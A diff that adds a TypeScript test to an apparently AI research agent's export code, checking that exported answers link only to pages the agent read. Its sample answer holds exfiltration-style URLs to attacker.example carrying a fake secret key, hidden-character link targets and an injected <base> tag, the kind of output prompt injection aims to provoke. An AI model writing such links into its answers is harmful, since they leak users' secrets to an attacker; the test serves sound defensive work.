@@ -64,3 +64,33 @@ describe('an exported run opened in any viewer runs nothing and loads nothing', 
     });
   });
 });
+
+describe('an exported answer links only pages Sleuth read', () => {
+  const linksIn = (markdown: string) => {
+    const html = new Marked({ gfm: true }).parse(markdown, { async: false });
+    const doc = new JSDOM(html).window.document;
+    return {
+      hrefs: [...doc.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? ''),
+      bases: doc.querySelectorAll('base').length,
+    };
+  };
+
+  it('bare and written URLs to unread pages, hidden characters and <base> give no link', () => {
+    const answer = [
+      'Read: https://a.example/page.',
+      'Exfil: https://attacker.example/c?k=sk-live-123 and www.attacker.example/k/sk-live-123',
+      '[ok](https://a.example/page\uE000) [tags](https://a.example/page%F3%A0%81%81)',
+      '<base href="https://attacker.example/"> [rel](/k/sk-live-123)',
+    ].join('\n\n');
+    const session = { ...sampleSession(), answer, citations: undefined };
+    const steps = [
+      visitStep(0, 'goal', [
+        { url: 'https://a.example/page', title: 'A', ok: true, evidence: 'e', summary: 's' },
+      ]),
+    ];
+    const { hrefs, bases } = linksIn(sessionToMarkdown(session, steps, { trail: false }));
+    expect(bases).toBe(0);
+    expect(hrefs.filter((h) => /attacker|sk-live|%EE|%F3/i.test(h))).toEqual([]);
+    expect(hrefs).toContain('https://a.example/page');
+  });
+});
